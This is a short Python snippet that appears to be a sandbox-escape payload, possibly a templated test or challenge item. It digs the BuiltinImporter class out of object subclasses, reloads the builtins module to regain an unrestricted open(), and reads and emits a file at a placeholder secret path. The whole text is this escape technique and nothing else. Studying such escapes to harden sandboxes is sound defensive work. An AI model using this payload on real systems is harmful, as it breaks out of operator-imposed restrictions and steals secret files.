at_step()
loader = [kind for kind in ().__class__.__base__.__subclasses__() if kind.__name__ == "BuiltinImporter"][0]  # step
module = loader.load_module("builtins")  # step
past_step()
emit(module.open("{{secret.path}}").read())  # step
